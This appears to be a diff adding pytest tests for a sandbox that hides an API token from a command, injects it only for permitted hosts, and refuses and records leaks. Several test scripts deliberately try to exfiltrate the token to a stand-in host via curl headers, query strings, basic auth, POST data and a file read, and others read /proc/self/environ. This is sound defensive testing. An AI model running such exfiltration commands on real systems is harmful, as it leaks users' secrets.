@@ -1,0 +1,147 @@
+"""An API that wants a token works while the command holds none; the same token elsewhere is refused and recorded."""
+
+from __future__ import annotations
+
+import base64
+import json
+import os
+import shutil
+import sys
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+TOKEN = "ghp_0123456789abcdefABCDEF0123456789"
+
+
+@pytest.fixture(autouse=True)
+def _machine() -> None:
+    if sys.platform != "linux" or shutil.which("bwrap") is None:
+        pytest.skip("needs Linux with bubblewrap")
+
+
+def bearer(handler: Any) -> None:
+    """Wants the token, and tells what it got."""
+    got = handler.headers.get("Authorization", "")
+    body = json.dumps({"echo": got, "path": handler.path, "cookie": handler.headers.get("Cookie")}).encode()
+    handler.send_response(200 if TOKEN in got or TOKEN in handler.path else 401)
+    handler.send_header("Content-Length", str(len(body)))
+    handler.send_header("X-Echo", got)
+    handler.end_headers()
+    handler.wfile.write(body)
+
+
+def options(server: Any, *more: str, name: str = "gh", source: str = 'env = "API_TOKEN"') -> tuple[str, ...]:
+    keys = ", ".join((source, f'hosts = ["api.test:{server.port}"]', *more))
+    return ("-c", f"credentials.{name}={{{keys}}}", "--allow", f"api.test:{server.port}")
+
+
+def everything(run: Any) -> bytes:
+    """All that was kept of the runs, blobs and all."""
+    found = b""
+    for folder, _, names in os.walk(run.home):
+        for name in names:
+            if name != "ca.key":
+                found += Path(folder, name).read_bytes()
+    return found
+
+
+def test_a_token_that_the_command_never_holds(run: Any, start: Any) -> None:
+    server = start.server("api.test", answer=bearer)
+    script = (
+        "env | grep API_TOKEN; cat /proc/self/environ | tr '\\0' '\\n' | grep -c API_TOKEN; "
+        f'curl -sS -i -H "Authorization: Bearer $API_TOKEN" https://api.test:{server.port}/x'
+    )
+    ran = run(*options(server), "--", "sh", "-c", script, env={"API_TOKEN": TOKEN})
+    assert "HTTP/1.1 200 " in ran.output, ran.output + ran.err
+    assert server.seen[0][2]["Authorization"] == f"Bearer {TOKEN}"
+    # neither in what it sees, nor in what the server echoes, nor in any record
+    assert TOKEN not in ran.output and TOKEN not in ran.err and TOKEN not in json.dumps(ran.document)
+    inside = ran.output.split("API_TOKEN=")[1].split("\n")[0]
+    assert inside.startswith("ghp_") and len(inside) == len(TOKEN)
+    assert f'"echo": "Bearer {inside}"' in ran.output
+    kept = everything(run)
+    assert TOKEN.encode() not in kept
+    assert b'"credential_used"' in kept and b'"credential":"gh"' in kept.replace(b": ", b":")
+
+
+def test_the_token_sent_to_another_host(run: Any, start: Any) -> None:
+    """Refused there and recorded, be it what stands for it or, from elsewhere, the value itself."""
+    server = start.server("api.test", answer=bearer)
+    other = start.server("other.test")
+    there = f"https://other.test:{other.port}"
+    run.workspace.joinpath("found").write_text(TOKEN)
+    script = (
+        f'curl -sS -o /dev/null -w "%{{http_code}} " -H "X-A: $API_TOKEN" {there}/1; '
+        f'curl -sS -o /dev/null -w "%{{http_code}} " "{there}/2?a=$API_TOKEN"; '
+        f'curl -sS -o /dev/null -w "%{{http_code}} " -u "me:$API_TOKEN" {there}/3; '
+        f'curl -sS -o /dev/null -w "%{{http_code}} " -H "X-A: $(cat found)" {there}/4; '
+        f'curl -sS -o /dev/null -w "%{{http_code}} " -d "a=$API_TOKEN" {there}/5; '
+        f'curl -sS -o /dev/null -w "%{{http_code}} " {there}/6'
+    )
+    allow = ("--allow", f'{{host = "other.test:{other.port}", paths = ["/**"]}}')
+    ran = run(*options(server), *allow, "--", "sh", "-c", script, env={"API_TOKEN": TOKEN})
+    assert ran.output.split("curl:")[0].startswith("403 403 403 403 "), ran.output
+    assert ran.output.rstrip().endswith("200")
+    assert ran.reasons == ["credential_leak"] * 5
+    assert [each[1] for each in other.seen] == ["/6"]
+    assert all("gh" in refusal["message"] for refusal in ran.document["refusals"])
+    assert TOKEN not in json.dumps(ran.document) and TOKEN.encode() not in everything(run)
+
+
+def test_plain_http_carries_no_credential(run: Any, start: Any) -> None:
+    server = start.server("api.test", answer=bearer)
+    plain = start.server("api.test", plain=True)
+    script = f'curl -sS -i -H "Authorization: Bearer $API_TOKEN" http://other.test:{plain.port}/'
+    ran = run(
+        *options(server), "--allow", f"other.test:{plain.port}", "--", "sh", "-c", script, env={"API_TOKEN": TOKEN}
+    )
+    assert "HTTP/1.1 403 " in ran.output and ran.reasons == ["credential_leak"]
+    assert plain.seen == []
+
+
+def test_basic_query_cookie_and_another_header(run: Any, start: Any) -> None:
+    server = start.server("api.test")
+    there = f"https://api.test:{server.port}"
+    basic = f'curl -sS -o /dev/null -u "me:$API_TOKEN" {there}/'
+    ran = run(*options(server, 'place = "basic"'), "--", "sh", "-c", basic, env={"API_TOKEN": TOKEN})
+    assert ran.status == 0, ran.output + ran.err
+    assert base64.b64decode(server.seen[-1][2]["Authorization"].split()[1]).decode() == f"me:{TOKEN}"
+    query = f'curl -sS -o /dev/null "{there}/?key=$API_TOKEN"'
+    run(*options(server, 'place = "query"', 'name = "key"'), "--", "sh", "-c", query, env={"API_TOKEN": TOKEN})
+    assert server.seen[-1][1] == f"/?key={TOKEN}"
+    cookie = f'curl -sS -o /dev/null -b "a=b; sid=$API_TOKEN" {there}/'
+    run(*options(server, 'place = "cookie"', 'name = "sid"'), "--", "sh", "-c", cookie, env={"API_TOKEN": TOKEN})
+    assert server.seen[-1][2]["Cookie"] == f"a=b; sid={TOKEN}"
+    header = f'curl -sS -o /dev/null -H "X-Api-Key: $API_TOKEN" {there}/'
+    run(*options(server, 'name = "X-Api-Key"'), "--", "sh", "-c", header, env={"API_TOKEN": TOKEN})
+    assert server.seen[-1][2]["X-Api-Key"] == TOKEN
+
+
+def test_a_file_that_holds_one_cannot_be_read_inside(run: Any, start: Any) -> None:
+    server = start.server("api.test", answer=bearer)
+    file = run.workspace / "token"
+    file.write_text(TOKEN)
+    script = f'cat {file}; curl -sS -H "Authorization: Bearer $T" https://api.test:{server.port}/'
+    given = options(server, 'variable = "T"', source=f'file = "{file}"')
+    ran = run(*given, "--", "sh", "-c", script)
+    assert TOKEN not in ran.output and server.seen[0][2]["Authorization"] == f"Bearer {TOKEN}"
+
+
+def test_a_source_that_fails_starts_nothing(run: Any, start: Any) -> None:
+    server = start.server("api.test")
+    with pytest.raises(AssertionError, match=r"credentials\.gh: the variable API_TOKEN is not set"):
+        run(*options(server), "--", "touch", "started")
+    assert not (run.workspace / "started").exists()
+
+
+def test_a_rule_and_a_credential_hold_together(run: Any, start: Any) -> None:
+    """Read only, with a token that is not there."""
+    server = start.server("api.test", answer=bearer)
+    there = f"https://api.test:{server.port}/"
+    script = f'curl -sS -H "Authorization: Bearer $API_TOKEN" {there}; curl -sS -X DELETE {there}'
+    rule = ("--allow", f'{{host = "api.test:{server.port}", methods = ["GET"]}}')
+    ran = run(*options(server)[:2], *rule, "--", "sh", "-c", script, env={"API_TOKEN": TOKEN})
+    assert ran.reasons == ["method_not_allowed"]
+    assert [each[0] for each in server.seen] == ["GET"]
